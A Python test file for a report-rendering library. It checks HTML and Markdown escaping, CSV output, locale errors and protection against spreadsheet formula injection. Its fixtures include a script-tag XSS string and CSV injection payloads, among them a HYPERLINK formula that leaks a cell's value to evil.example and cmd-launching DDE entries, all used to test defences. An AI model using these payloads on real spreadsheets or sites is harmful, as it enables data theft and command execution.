"""The one rendering layer: every block in every format, escaping, and the one locale error."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import date
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ipsrules import (
    LOCALES,
    BulletList,
    Document,
    Heading,
    Paragraph,
    Table,
    UnknownLocaleError,
    ValidationError,
    check_report,
    sample_programme,
)
from ipsrules._document import (
    CSS,
    FORMULA_STARTS,
    Folded,
    GroupRow,
    KeyValues,
    LineBreak,
    NumberedList,
    PerFormat,
    Row,
    ScoreBar,
    Span,
    Style,
    escape_html,
    escape_markdown,
    formula_safe,
    plain_text,
    records_to_csv,
    to_csv,
    to_json,
    to_text_table,
)
from ipsrules._locale import check_locale
from ipsrules.fidelity import SCALE, Section
from ipsrules.outcomes import board_report, format_amount, format_day, format_number
from outcome_programmes import Q1_2025, small_programme

HOSTILE = "<script>alert(\"x\")</script> | *bold* _it_ # [a](b) `c` & 'q'\nnext line\r\nthird"

EVERY_BLOCK = Document(
    "Title",
    "en",
    [
        Heading("Section"),
        Heading("Subsection", level=3),
        Paragraph("Plain text."),
        Paragraph("The lead.", "lead"),
        Paragraph("A note.", "note"),
        Table(("Name", "Count", "Basis"), [("a", "1", "x"), ("b", "22", "")], ("left", "right")),
        BulletList(["one", "two"]),
        Paragraph("The footer.", "footer"),
    ],
)


class _Page(HTMLParser):
    """The elements and the text of each element of an HTML page, in order."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.open: list[str] = []
        self.text: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag != "meta":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, f"</{tag}> closes another element"

    def handle_data(self, data: str) -> None:
        if self.open:
            self.text.append((self.open[-1], data))


def parse(page: str) -> _Page:
    parser = _Page()
    parser.feed(page)
    parser.close()
    assert not parser.open, f"unclosed: {parser.open}"
    return parser


class TestMarkdown:
    def test_every_block(self) -> None:
        """Title, headings by level, each role, an aligned table and a list, a blank line apart."""
        assert EVERY_BLOCK.to_markdown() == (
            "# Title\n\n"
            "## Section\n\n"
            "### Subsection\n\n"
            "Plain text.\n\n"
            "**The lead.**\n\n"
            "> A note.\n\n"
            "| Name | Count | Basis |\n"
            "| --- | ---: | --- |\n"
            "| a | 1 | x |\n"
            "| b | 22 |  |\n\n"
            "- one\n- two\n\n"
            "*The footer.*\n"
        )

    def test_hostile_text_is_escaped(self) -> None:
        """No markup survives, and a line break cannot end a heading or a table row."""
        text = escape_markdown(HOSTILE)
        assert "\n" not in text
        assert "\r" not in text
        for special in "<>|*_#[]`":
            assert special not in text.replace("\\" + special, "")
        page = Document(HOSTILE, "en", [Table(("h",), [(HOSTILE,)])]).to_markdown()
        title, table = page.split("\n\n")
        assert title.startswith("# \\<script\\>")
        assert len(table.splitlines()) == 3
        assert table.splitlines()[2].count(" | ") == 0


class TestHtml:
    def test_every_block(self) -> None:
        """Each block as its element; the lead and the note as classes of a paragraph."""
        page = EVERY_BLOCK.to_html(standalone=False)
        assert page == (
            "<h1>Title</h1>\n"
            "<h2>Section</h2>\n"
            "<h3>Subsection</h3>\n"
            "<p>Plain text.</p>\n"
            '<p class="lead">The lead.</p>\n'
            '<p class="note">A note.</p>\n'
            "<table>\n<thead><tr><th>Name</th><th>Count</th><th>Basis</th></tr></thead>\n"
            "<tbody>\n<tr><td>a</td><td>1</td><td>x</td></tr>\n"
            "<tr><td>b</td><td>22</td><td></td></tr>\n</tbody>\n</table>\n"
            "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"
            "<footer>The footer.</footer>\n"
        )

    def test_a_standalone_page(self) -> None:
        """One page in the document's language, the one stylesheet inline, the fragment inside."""
        page = Document("Rapport", "sv", [Paragraph("Text.")]).to_html()
        assert page.startswith(
            '<!DOCTYPE html>\n<html lang="sv">\n<head>\n<meta charset="utf-8">\n'
        )
        assert f"<title>Rapport</title>\n<style>{CSS}</style>" in page
        assert "<h1>Rapport</h1>\n<p>Text.</p>\n</body>\n</html>\n" in page
        assert "<script" not in page
        assert "http" not in page
        parse(page)

    def test_hostile_text_is_escaped(self) -> None:
        """Hostile text is text in every block: no element is added, the text comes back whole."""
        page = Document(
            HOSTILE,
            "en",
            [
                Heading(HOSTILE),
                Paragraph(HOSTILE, "lead"),
                Table((HOSTILE,), [(HOSTILE,)]),
                BulletList([HOSTILE]),
            ],
        ).to_html()
        parsed = parse(page)
        assert "script" not in parsed.tags
        assert escape_html(HOSTILE) in page
        assert HOSTILE not in page
        texts = {text for _, text in parsed.text}
        assert HOSTILE in texts
        assert '"' not in escape_html(HOSTILE)
        assert "'" not in escape_html(HOSTILE)


class TestPlainTextCsvJson:
    def test_a_text_table(self) -> None:
        """Columns two spaces apart, padded to the widest cell, right-aligned where asked."""
        table = Table(("name", "n", "mid"), [("alpha", "1", "x"), ("b", "100", "yyy")])
        aligned = Table(table.header, table.rows, ("left", "right", "center"))
        assert to_text_table(table) == "name   n    mid\nalpha  1    x\nb      100  yyy"
        assert to_text_table(aligned) == "name     n  mid\nalpha    1   x\nb      100  yyy"

    def test_csv_of_rows_and_of_records(self) -> None:
        """A header row; None is an empty cell; a comma, a quote or a line break is quoted."""
        rows = [("a,b", 1, None), ('say "hi"', 2.5, "x\ny")]
        text = to_csv(("text", "number", "other"), rows)
        assert text == 'text,number,other\n"a,b",1,\n"say ""hi""",2.5,"x\ny"\n'
        records = [dict(zip(("text", "number", "other"), row, strict=True)) for row in rows]
        assert records_to_csv(("text", "number", "other"), records) == text

    def test_csv_quotes_a_carriage_return(self) -> None:
        """The csv module leaves a lone carriage return bare with ``\\n`` line ends; not here."""
        text = to_csv(("a", "b"), [("x\ry", 1), ("z", 2)])
        assert text == 'a,b\n"x\ry","1"\nz,2\n'
        assert list(csv.reader(io.StringIO(text, newline=""))) == [
            ["a", "b"],
            ["x\ry", "1"],
            ["z", "2"],
        ]

    def test_json_keeps_key_order_and_non_ascii(self) -> None:
        """Indented by two, keys as given (not sorted), Swedish letters as they are."""
        assert to_json({"ö": 1, "a": [None, True]}) == (
            '{\n  "ö": 1,\n  "a": [\n    null,\n    true\n  ]\n}\n'
        )


class TestBlocksRefuse:
    def test_a_row_of_the_wrong_width(self) -> None:
        with pytest.raises(ValueError, match="2 cells for 1 columns"):
            Table(("a",), [("1", "2")])

    def test_a_cell_that_is_not_text(self) -> None:
        with pytest.raises(TypeError, match="expected text"):
            Table(("a",), [(1,)])  # type: ignore[list-item]

    def test_an_unknown_alignment_and_a_heading_level(self) -> None:
        with pytest.raises(ValueError, match="left, right or center"):
            Table(("a",), [], ("middle",))  # type: ignore[arg-type]
        with pytest.raises(ValueError, match="level"):
            Heading("deep", level=7)

    def test_an_unknown_role(self) -> None:
        with pytest.raises(ValueError, match="role"):
            Paragraph("x", "aside")  # type: ignore[arg-type]


# --- one locale, one error --------------------------------------------------------

_REPORT = board_report(small_programme(), *Q1_2025)
_CHECK = check_report(sample_programme(), today=date(2026, 11, 20))

UNKNOWN_LOCALE: list[Callable[[str], object]] = [
    check_locale,
    lambda locale: Document("x", locale),
    _REPORT.summary,
    _REPORT.to_markdown,
    _REPORT.to_html,
    _REPORT.to_text,
    _REPORT.to_document,
    _CHECK.to_text,
    _CHECK.to_table,
    _CHECK.to_document,
    _CHECK.to_html,
    lambda locale: format_number(1.5, locale),
    lambda locale: format_day(date(2026, 1, 1), locale),
    lambda locale: format_amount(10.0, "SEK", locale),
    lambda locale: SCALE[0].title(locale),
    lambda locale: Section.STAFFING.label(locale),
]


@pytest.mark.parametrize("render", UNKNOWN_LOCALE)
def test_every_report_refuses_an_unknown_locale_with_the_one_error(
    render: Callable[[str], object],
) -> None:
    """One error, a ValidationError of the field ``locale`` too, naming the locale."""
    with pytest.raises(UnknownLocaleError, match="'fi'") as error:
        render("fi")
    assert isinstance(error.value, ValidationError)
    assert (error.value.field, error.value.locale) == ("locale", "fi")


@pytest.mark.parametrize("locale", LOCALES)
def test_every_known_locale_renders(locale: str) -> None:
    for render in UNKNOWN_LOCALE:
        render(locale)


# --- spans, key/values, numbered lists, table options, styles ---------------------

SAFE = escape_html(HOSTILE)


def fragment(*blocks: object, **options: object) -> str:
    """The HTML of *blocks* under no title, without a page."""
    page = Document("", "en", blocks, **options).to_html(standalone=False)  # type: ignore[arg-type]
    return page.removesuffix("\n")


def markdown(*blocks: object, escape: str = "entities") -> str:
    """The Markdown of *blocks*, without the title line."""
    page = Document("T", "en", blocks, markdown_escape=escape).to_markdown()  # type: ignore[arg-type]
    return page.split("\n\n", 1)[1].rstrip("\n")


def no_raw_markup(text: str) -> None:
    """Nothing in *text* could mark up in Markdown: each special is escaped, HTML is entities."""
    assert "<" not in text
    assert ">" not in text
    assert "&" not in text.replace("&lt;", "").replace("&gt;", "").replace("&amp;", "")
    for special in "|*_[]`":
        assert special not in text.replace("\\" + special, "")


class TestSpans:
    def test_each_look_in_html(self) -> None:
        """Each look as its element; the text always escaped."""
        page = fragment(
            Paragraph(
                [Span(HOSTILE, look) for look in ("plain", "strong", "code", "muted", "alert")]
            )
        )
        assert page == (
            "<p>"
            f"{SAFE}<strong>{SAFE}</strong><code>{SAFE}</code>"
            f'<span class="muted">{SAFE}</span><span class="alert">{SAFE}</span>'
            "</p>"
        )
        assert "<script" not in page

    def test_each_look_in_markdown(self) -> None:
        """Strong is bold; code stays code only when it is a plain word; the rest is text."""
        assert markdown(Paragraph([Span("a_b", "strong"), Span(" "), Span("a_b", "code")])) == (
            "**a\\_b** `a_b`"
        )
        text = markdown(Paragraph([Span(HOSTILE, look) for look in ("code", "muted", "alert")]))
        assert "\n" not in text
        no_raw_markup(text)

    def test_spans_inside_a_span_take_its_look(self) -> None:
        """Code in muted text, as an item's key; hostile text escaped at every depth."""
        spans = [Span([Span(HOSTILE), Span("key", "code"), Span(HOSTILE, "code")], "muted")]
        assert fragment(Paragraph(spans)) == (
            f'<p><span class="muted">{SAFE}<code>key</code><code>{SAFE}</code></span></p>'
        )
        text = markdown(Paragraph([Span([Span("a*"), Span("key", "code")], "strong")]))
        assert text == "**a\\*`key`**"
        no_raw_markup(markdown(Paragraph(spans)).replace("`key`", ""))
        assert plain_text(spans) == f"{HOSTILE}key{HOSTILE}"

    def test_an_unknown_look_and_a_span_that_is_not_text(self) -> None:
        with pytest.raises(ValueError, match="look"):
            Span("x", "loud")  # type: ignore[arg-type]
        with pytest.raises(TypeError, match="expected text or spans"):
            Paragraph(["x"])  # type: ignore[list-item]

    def test_a_score_bar_is_drawn_in_html_only(self) -> None:
        row = ("3", (ScoreBar(3),))
        page = fragment(Table(("score", "bar"), [row]))
        assert '<td><span class="bar" style="width: 3.6em" aria-hidden="true"></span></td>' in page
        assert markdown(Table(("score", "bar"), [row])).splitlines()[2] == "| 3 |  |"
        with pytest.raises(ValueError, match="score"):
            ScoreBar(6)

    def test_folded_text_is_details_in_html_and_a_summary_in_markdown(self) -> None:
        spans = (Span("counted"), Folded(HOSTILE, HOSTILE))
        page = fragment(Paragraph(spans))
        assert page == f"<p>counted<details><summary>{SAFE}</summary>{SAFE}</details></p>"
        text = markdown(Paragraph(spans))
        assert text.startswith("counted (")
        assert text.endswith(")")
        assert "\n" not in text
        no_raw_markup(text)
        assert plain_text(spans) == f"counted ({HOSTILE})"

    def test_a_line_break_is_br_in_html_and_a_space_in_markdown(self) -> None:
        spans = (Span("a"), LineBreak(), Span(HOSTILE, "muted"))
        assert fragment(Paragraph(spans)) == f'<p>a<br><span class="muted">{SAFE}</span></p>'
        text = markdown(Paragraph(spans))
        assert text.startswith("a ")
        no_raw_markup(text)


class TestNewBlocks:
    def test_key_values_in_html(self) -> None:
        page = fragment(KeyValues([("Name", "x"), (HOSTILE, (Span(HOSTILE, "alert"),))]))
        assert page == (
            "<table>\n<tbody>\n<tr><th>Name</th><td>x</td></tr>\n"
            f'<tr><th>{SAFE}</th><td><span class="alert">{SAFE}</span></td></tr>\n'
            "</tbody>\n</table>"
        )

    def test_key_values_in_markdown(self) -> None:
        """One line a pair, however hostile the key or the value."""
        text = markdown(KeyValues([("Name", "x"), (HOSTILE, HOSTILE)]))
        first, second = text.split("\n")
        assert first == "- **Name:** x"
        assert second.startswith("- **&lt;script&gt;")
        no_raw_markup(second[len("- **") :].replace(":** ", " ", 1).rstrip("*"))

    def test_a_numbered_list(self) -> None:
        assert fragment(NumberedList(["one", HOSTILE])) == (
            f"<ol>\n<li>one</li>\n<li>{SAFE}</li>\n</ol>"
        )
        text = markdown(NumberedList(["one", (Span(HOSTILE),)]))
        first, second = text.split("\n")
        assert first == "1. one"
        assert second.startswith("2. ")
        no_raw_markup(second)

    def test_a_muted_and_a_closing_paragraph(self) -> None:
        """Both quiet paragraphs in HTML, no <footer>; Markdown shows the closing one in italics."""
        blocks = (Paragraph(HOSTILE, "muted"), Paragraph("The end.", "closing"))
        page = fragment(*blocks)
        assert page == f'<p class="muted">{SAFE}</p>\n<p class="muted">The end.</p>'
        text = markdown(*blocks)
        muted, closing = text.split("\n\n")
        no_raw_markup(muted)
        assert closing == "*The end.*"

    def test_a_block_per_format(self) -> None:
        block = PerFormat([Paragraph("html")], [Paragraph("markdown")])
        assert fragment(block) == "<p>html</p>"
        assert markdown(block) == "markdown"
        with pytest.raises(TypeError, match="PerFormat"):
            PerFormat([block], [])


ONE_LINE = "<script>alert(1)</script> | *bold* [a](b) & `c`"


class TestTableOptions:
    """A hostile text on one line, so that the lines of the page are its rows."""

    TABLE = Table(
        ("#", "Name", "Score"),
        [
            GroupRow(ONE_LINE),
            Row(("1", ONE_LINE, "5"), "overridden"),
            ("2", "b", ""),
        ],
        align=("right", "left", "right"),
        numbers=True,
    )

    def test_in_html(self) -> None:
        """Numbers marked in right-aligned columns, a group row across all, a row's emphasis."""
        page = fragment(self.TABLE)
        assert page.splitlines()[3:6] == [
            f'<tr><th colspan="3">{escape_html(ONE_LINE)}</th></tr>',
            '<tr class="overridden"><td class="num">1</td>'
            f'<td>{escape_html(ONE_LINE)}</td><td class="num">5</td></tr>',
            '<tr><td class="num">2</td><td>b</td><td class="num"></td></tr>',
        ]
        assert "<script" not in page

    def test_in_markdown(self) -> None:
        """A group row is a bold first cell; every row keeps its cells."""
        lines = markdown(self.TABLE).split("\n")
        assert len(lines) == 5
        assert lines[:2] == ["| # | Name | Score |", "| ---: | --- | ---: |"]
        for line in lines[2:4]:
            assert line.replace("\\\\", "").replace("\\|", "").count("|") == 4
        assert lines[2].startswith("| **&lt;script&gt;")
        assert lines[4] == "| 2 | b |  |"

    def test_in_plain_text(self) -> None:
        assert to_text_table(Table(("a", "b"), [GroupRow("G"), ("x", (Span("y"),))])) == (
            "a  b\nG\nx  y"
        )

    def test_row_headers(self) -> None:
        table = Table(("", "n"), [("Total", "3")], align=("left", "right"), row_headers=True)
        assert fragment(table).splitlines()[3] == "<tr><th>Total</th><td>3</td></tr>"

    def test_an_emphasis_that_is_not_a_class_name(self) -> None:
        with pytest.raises(ValueError, match="class name"):
            Row(("1",), 'x" onclick="y')


class TestStyleAndTitles:
    STYLE = Style(".scope p{color:red}", "scope")

    def test_a_styled_fragment_carries_its_style(self) -> None:
        page = fragment(Paragraph(HOSTILE), style=self.STYLE)
        assert page == f'<div class="scope"><style>.scope p{{color:red}}</style><p>{SAFE}</p></div>'

    def test_a_styled_page(self) -> None:
        page = Document(HOSTILE, "sv", [Paragraph("x")], style=self.STYLE).to_html()
        assert '<meta name="viewport" content="width=device-width, initial-scale=1">' in page
        assert f"<title>{SAFE}</title>\n<style>\n.scope p{{color:red}}\n</style>" in page
        assert f'<body class="scope">\n<h1>{SAFE}</h1>\n<p>x</p>\n</body>' in page
        assert CSS not in page
        assert "<script" not in page

    def test_a_scope_that_is_not_a_class_name(self) -> None:
        with pytest.raises(ValueError, match="class name"):
            Style("", "a b")

    def test_an_untitled_document_has_no_heading_and_markdown_may_have_a_short_title(self) -> None:
        assert Document("", "en", [Paragraph("x")]).to_html(standalone=False) == "<p>x</p>\n"
        document = Document("Long title", "en", markdown_title=HOSTILE, markdown_escape="entities")
        title = document.to_markdown()
        assert title.startswith("# &lt;script&gt;")
        assert title.count("\n") == 1
        no_raw_markup(title[2:])


class TestMarkdownEntities:
    def test_hostile_text(self) -> None:
        """HTML as entities, Markdown's marks escaped, every kind of line break a space."""
        text = escape_markdown(HOSTILE + "\x0b\u2028\x85end", "entities")
        assert text.startswith('&lt;script&gt;alert("x")&lt;/script&gt; \\| \\*bold\\*')
        assert len(text.splitlines()) == 1
        no_raw_markup(text)

    def test_the_board_keeps_backslashes(self) -> None:
        assert escape_markdown("<b> & #") == "\\<b\\> & \\#"


# --- properties ---------------------------------------------------------------------


@given(st.text())
def test_any_cell_survives_csv_and_is_never_unescaped_in_html(text: str) -> None:
    """
    CSV reads the cell back as it was (after the quote that keeps a formula from running);
    HTML shows it as text and adds no element.
    """
    (row,) = list(csv.reader(io.StringIO(to_csv(("cell",), [(text,)]), newline="")))[1:]
    assert row == [formula_safe(text)]

    page = Document("t", "en", [Table(("cell",), [(text,)])]).to_html()
    parsed = parse(page)
    plain = parse(Document("t", "en", [Table(("cell",), [("x",)])]).to_html())
    assert parsed.tags == plain.tags
    assert escape_html(text) in page
    cell = "".join(data for tag, data in parsed.text if tag == "td")
    assert cell == text


@given(st.text())
def test_any_cell_keeps_a_markdown_table_in_shape(text: str) -> None:
    """A row of a Markdown table is one line, with no unescaped bar."""
    page = Document("t", "en", [Table(("a", "b"), [(text, "x")])]).to_markdown()
    rows = page.split("\n\n")[1].rstrip("\n").split("\n")
    assert len(rows) == 3
    assert rows[2].replace("\\\\", "").replace("\\|", "").count("|") == 3


def test_to_json_of_a_report_is_valid_json() -> None:
    assert json.loads(_REPORT.to_json()) == _REPORT.to_dict()


# --- formula-safe CSV (issue 17) -------------------------------------------------------

OWASP_CELLS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]


@pytest.mark.parametrize("text", OWASP_CELLS)
def test_a_text_cell_that_starts_a_formula_gets_a_quote(text: str) -> None:
    written = to_csv(("id", "note"), [("P1", text)])
    rows = list(csv.reader(io.StringIO(written)))
    assert rows == [["id", "note"], ["P1", "'" + text]]


def test_embedded_quotes_are_doubled_after_the_prefix() -> None:
    written = to_csv(("note",), [('=HYPERLINK("a","b")',)])
    assert written == 'note\n"\'=HYPERLINK(""a"",""b"")"\n'


@pytest.mark.parametrize("text", ["P1", "a=b", " =1", "'=1", "2025-03-01", "", "x-1"])
def test_other_text_is_written_as_it_is(text: str) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(("c",), [(text,)]))))
    assert rows[1] == [text]


def test_numbers_stay_numbers_and_their_sign_stays() -> None:
    """A number that a report computed is written as a number: -3, not '-3."""
    written = to_csv(("a", "b", "c"), [(-3, -0.5, "-3")])
    assert written.splitlines()[1] == "-3,-0.5,'-3"


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_no_text_cell_read_back_starts_a_formula(texts: list[str]) -> None:
    """Read back, each cell is its text, with a quote in front exactly when it starts a formula."""
    written = to_csv(tuple(f"c{index}" for index in range(len(texts))), [texts])
    row = next(iter(list(csv.reader(io.StringIO(written, newline="")))[1:]))
    assert row == [("'" + text if text.startswith(FORMULA_STARTS) else text) for text in texts]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
